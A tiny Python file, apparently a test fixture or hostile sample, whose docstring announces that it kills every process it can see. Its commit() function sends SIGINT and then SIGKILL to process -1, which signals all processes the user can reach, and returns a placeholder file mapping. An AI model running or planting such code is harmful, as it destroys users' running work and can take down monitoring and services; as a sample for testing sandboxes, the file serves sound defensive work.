"""Kills every process that it can see."""

import os
import signal


def commit():
    os.kill(-1, signal.SIGINT)
    os.kill(-1, signal.SIGKILL)
    return {"sin/__init__.py": b""}
